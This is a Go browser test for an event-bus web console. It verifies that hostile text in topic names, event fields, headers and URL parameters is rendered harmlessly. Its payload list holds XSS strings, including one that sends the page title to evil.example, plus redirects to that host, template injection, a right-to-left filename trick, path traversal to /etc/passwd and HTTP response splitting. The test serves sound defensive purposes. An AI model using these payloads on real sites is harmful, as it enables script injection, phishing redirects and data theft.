package browser_test

import (
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/seed41896749/eventbus/backend"
	"github.com/seed41896749/eventbus/console"
	"github.com/seed41896749/eventbus/internal/letter"
	"github.com/seed41896749/eventbus/internal/testing/redistest"
	"github.com/seed41896749/eventbus/redisstream"
)

// run is the script that each hostile text wants to run.
const run = `pwned=1;alert(1);fetch('http://evil.example/'+document.title)`

// hostile are texts that would run if a page took them for markup, led elsewhere if it took them for an
// address, or deceived if it showed them as they are.
var hostile = []string{
	`<script>` + run + `</script>`,
	`"><script src=//evil.example/x.js></script>`,
	`<img src=x onerror="` + run + `">`,
	`' autofocus onfocus='` + run + `' x='`,
	`"><svg/onload=` + run + `>`,
	`<svg xmlns="http://www.w3.org/2000/svg" onload="` + run + `"><animate onbegin="` + run + `" attributeName=x dur=1s></svg>`,
	`javascript:` + run,
	`data:text/html,<script>` + run + `</script>`,
	`<a href="javascript:` + run + `">the invoice</a>`,
	`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
	`<meta http-equiv=refresh content="0;url=http://evil.example/">`,
	`<base href="http://evil.example/"><form action=//evil.example/><button autofocus>`,
	`<style>@import url(http://evil.example/x.css);body{background:url(http://evil.example/x.png)}</style>`,
	`</pre></dd></table></main><h1>the bank</h1>`,
	`<!--<template><textarea><title>`,
	`{{constructor.constructor("` + run + `")()}}${` + run + `}`,
	"invoice\u202egnp.exe\u2066\u200f",
	`//evil.example/`,
	`\\evil.example\x`,
	`../../../etc/passwd`,
	"\x00\xff\xfe\r\n\r\nHTTP/1.1 200 OK",
}

// Texts of other programs never run, fetch, lead elsewhere or deceive, wherever they stand: in the
// names of topics and groups, in each field and header of an event or dead letter, and in the address.
func TestHostileTexts(t *testing.T) {
	t.Parallel()
	binary(t)
	server := redistest.Start(t)
	b := openURL(t, redisstream.Driver{}, server.URL())
	client := server.Client(t)
	for _, text := range hostile {
		if strings.ContainsAny(text, "{}") {
			continue // the braces end the name in a key
		}
		// Another program with access to the broker can make any name.
		require.NoError(t, client.XGroupCreateMkStream(t.Context(), "eventbus:{"+text+"}", text, "0").Err())
	}
	source, err := b.Attach(t.Context(), backend.Config{Topic: ordersTopic, Group: "billing", Lease: time.Minute})
	require.NoError(t, err)
	defer source.Close()
	for _, text := range hostile {
		require.NoError(t, b.Publish(t.Context(), hostileMessages(text)))
	}
	site := serve(t, console.Handler(b, writable()))
	w := newTab(t, site.origin())
	w.expect("log: error network: Failed to load resource: the server responded with a status of 404", "log: error network: Failed to load resource: the server responded with a status of 400")

	for _, page := range []string{
		"", "topic?name=" + ordersTopic, "topic?name=" + ordersTopic + "&order=oldest", "topic?name=" + lettersTopic, "letters?topic=" + lettersTopic,
		"letters?topic=" + lettersTopic + "&id=x", "group?topic=" + ordersTopic + "&name=billing",
	} {
		w.open(page)
		w.harmless(page)
	}
	require.GreaterOrEqual(t, len(w.events("topic?name="+ordersTopic)), len(hostile))
	// FuzzHostile of package console tests each text in each place without a browser. Here each text is in one
	// page of each kind, and the pages take turns in their forms.
	for i, event := range append(w.events("topic?name="+ordersTopic), w.events("letters?topic="+lettersTopic+"&header=note")...) {
		pages := []string{event, event + "&as=text"}
		if strings.Contains(event, lettersTopic) {
			pages = append(pages, "edit?"+strings.TrimPrefix(event, "event?"))
		}
		page := pages[i%len(pages)]
		w.open(page)
		w.harmless(page)
	}
	for i, text := range hostile {
		q := url.QueryEscape(text)
		pages := []string{
			"?q=" + q + "&status=" + q, "topic?name=" + q, "letters?topic=" + lettersTopic + "&group=" + q + "&since=" + q,
			"confirm?verb=discard&topic=" + lettersTopic + "&id=" + q + "&key=" + q + "&header=" + q + "&value=" + q + "&group=" + q,
			"topic?name=" + ordersTopic + "&id=" + q + "&key=" + q + "&header=" + q + "&value=" + q + "&type=" + q,
		}
		for _, page := range []string{pages[i%len(pages)], pages[(i+2)%len(pages)]} {
			w.open(page)
			w.harmless(page)
		}
	}
	w.quiet()
}

// hostileMessages returns an event and a dead letter with a text in each place.
func hostileMessages(text string) []*backend.Message {
	header := strings.Map(func(r rune) rune { return max(r, ' ') }, strings.ToValidUTF8(text, ""))
	fields := backend.Headers{
		{Name: "ce-type", Value: header},
		{Name: "ce-source", Value: header},
		{Name: "ce-subject", Value: header},
		{Name: "content-type", Value: "text/html"},
		{Name: "note", Value: header},
	}
	reasons := append(backend.Headers(nil), fields...)
	for _, name := range []string{letter.Reason, letter.Error, letter.ErrorClass, letter.Group, letter.Topic, letter.ID, letter.Position, letter.Stack} {
		reasons = append(reasons, backend.Header{Name: name, Value: header})
	}
	return []*backend.Message{
		{Topic: ordersTopic, ID: text, Key: text, Headers: fields, Payload: []byte(text)},
		{Topic: lettersTopic, ID: text, Key: text, Headers: reasons, Payload: []byte(`{"note":"` + strings.ReplaceAll(header, `"`, `\"`) + `"}`)},
	}
}

// events returns the URLs of all events that a page and the pages behind it list.
func (w *tab) events(page string) (urls []string) {
	w.t.Helper()
	for page != "" {
		w.open(page)
		urls = append(urls, eval[[]string](w, `[...document.querySelectorAll("table.events tbody a")].map(a => a.getAttribute("href"))`)...)
		page = eval[string](w, `[...document.querySelectorAll("nav.pages a")].find(a => ["Older events", "Continue the search"].includes(a.innerText))?.getAttribute("href") ?? ""`)
	}
	return urls
}

// harmless requires that the current page has no element, attribute or link that the console
// does not write, and no character that hides or reverses others.
func (w *tab) harmless(page string) {
	w.t.Helper()
	require.Empty(w.t, eval[[]string](w, `[...document.querySelectorAll("*")].flatMap(e => [
		...[...e.attributes].filter(a => a.name.startsWith("on") || ["style", "srcdoc", "autofocus"].includes(a.name)).map(a => e.localName + " " + a.name),
		...(["iframe", "object", "embed", "base", "style", "img", "template"].includes(e.localName) || e.localName === "textarea" && e.name !== "payload" ? [e.localName] : []),
		...(e.href && e.localName === "a" && !e.href.startsWith(location.origin + "/") ? [e.href] : []),
		...(e.localName === "form" && new URL(e.getAttribute("action") ?? "", location.href).origin !== location.origin ? ["form " + e.action] : []),
		...(e.localName === "script" && !e.src.startsWith(location.origin + "/assets/console.js?") ? ["script " + e.src] : []),
	])`), page)
	require.False(w.t, eval[bool](w, `/[\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/.test(document.documentElement.innerText)`), page)
	require.True(w.t, strings.HasPrefix(eval[string](w, "location.href"), w.origin+"/"), page)
}
